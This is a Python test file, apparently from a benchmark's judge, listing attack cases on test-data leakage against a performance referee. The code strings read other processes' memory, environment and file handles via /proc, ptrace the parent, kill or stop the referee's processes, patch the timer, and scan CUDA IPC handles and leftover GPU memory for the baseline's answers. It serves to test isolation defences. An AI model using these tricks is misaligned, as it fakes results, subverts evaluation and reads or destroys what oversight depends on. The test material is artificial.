"""Test Data Leakage.

What happens: Inputs, seeds or answers are read from other processes.
Why it lies: Answers need no work.
What we do: Own process namespace from level L2 on; seeds stay with the parent.
Limits: At level L1 processes of the same user can be read.

Attacks: Secrets read where they lie.
"""

from aisp_mcp.judge.attacks.base import Issue, Undefended, attack, honest
from aisp_mcp.judge.attacks.baselines import MATMUL_RELU
from aisp_mcp.judge.attacks.gpu_baselines import GPU_MATMUL
from aisp_mcp.judge.attacks.snippets import WORKER

ABOUT = Issue(
    id=91, kind="B", isolation="L2", undefended=Undefended(257000, "own word", "cpu"), executed_on=("cpu", "H200")
)

CASES = (
    # Answers are read from whatever process or file holds them; where that fails the work is done.
    attack("memory_of_other_processes", MATMUL_RELU, before=WORKER, needs=("namespaces",))("""
import glob

def foreign():
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            if "memfd:aisp" in os.readlink(path) and path.split("/")[2] != str(os.getpid()):
                return open(path, "rb").read(64)
        except OSError:
            pass
    for path in glob.glob("/proc/[0-9]*/mem") + glob.glob("/proc/[0-9]*/environ"):
        if path.split("/")[2] not in (str(os.getpid()), "self", "thread-self"):
            try:
                return open(path, "rb").read(1)
            except OSError:
                pass
    return b""

if foreign():
    time.perf_counter_ns = itertools.count().__next__
    type(worker).store = lambda *_: None

def run(x, w):
    return torch.relu(x @ w)
"""),
    attack("parent_traced", MATMUL_RELU, before=WORKER, needs=("namespaces",))("""
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
traced = [pid for pid in (os.getppid(), 1) if pid and libc.ptrace(16, pid, 0, 0) == 0]
if traced:
    time.perf_counter_ns = itertools.count().__next__

def run(x, w):
    return torch.relu(x @ w)
"""),
    attack("processes_of_the_referee_killed", MATMUL_RELU, needs=("namespaces",))("""
import os, signal, torch

for pid in [os.getppid(), *range(2, 400), -1]:
    if pid not in (os.getpid(), 0, 1):
        try:
            os.kill(pid, signal.SIGSTOP) if pid == -1 else os.kill(pid, signal.SIGKILL)
        except OSError:
            pass

def run(x, w):
    return torch.relu(x @ w)
"""),
    honest("reads_about_itself", MATMUL_RELU)("""
import torch

def run(x, w):
    with open("/proc/self/status") as file:
        assert "VmRSS" in file.read()
    return torch.relu(x @ w)
"""),
    # The baseline has just answered the same inputs; whoever finds its memory has the result.
    attack("handles_of_others_guessed", GPU_MATMUL, before=WORKER, device="cuda")("""
import ctypes

frame = sys._getframe()
while "setup" not in frame.f_locals:
    frame = frame.f_back
mine = bytes.fromhex(frame.f_locals["setup"]["ipc"])
with open("/proc/self/maps") as file:
    runtime = ctypes.CDLL(next(line.split()[-1] for line in file if "libcudart" in line))

class Handle(ctypes.Structure):
    _fields_ = [("reserved", ctypes.c_char * 64)]

def others():
    for place in range(64):
        for step in (*range(1, 5), *range(-4, 0)):
            changed = bytearray(mine)
            changed[place] = (changed[place] + step) % 256
            pointer = ctypes.c_void_p()
            handle = Handle.from_buffer_copy(changed)
            if runtime.cudaIpcOpenMemHandle(ctypes.byref(pointer), handle, ctypes.c_uint(1)) == 0:
                yield pointer.value
            runtime.cudaGetLastError()

class Bytes:
    def __init__(self, pointer):
        size = worker.layout.arena_bytes
        self.__cuda_array_interface__ = {"shape": (size,), "typestr": "|u1", "data": (pointer, False), "version": 2}

found = [torch.as_tensor(Bytes(pointer), device="cuda") for pointer in others()]
places = [[place for _, place in worker.layout.place_outputs(call)][0] for call in range(worker.layout.capacity)]

def run(x, w):
    call = loop()["call"]
    for memory in found:
        y = memory[places[call] : places[call] + 4 * 2048 * 2048].view(torch.float32).view(2048, 2048)
        if not bool(y[0, 0].isnan()):
            return y.clone()
    return torch.relu(x @ w)
"""),
    attack("memory_left_on_the_device", GPU_MATMUL, device="cuda")("""
import torch

def run(x, w):
    first = torch.relu(x[:1] @ w)[0, :4]
    left = torch.empty(64, 2048, 2048, device="cuda")
    same = (left[:, 0, :4] == first).all(1)
    if bool(same.any()):
        return left[int(same.int().argmax())].clone()
    return torch.relu(x @ w)
"""),
)
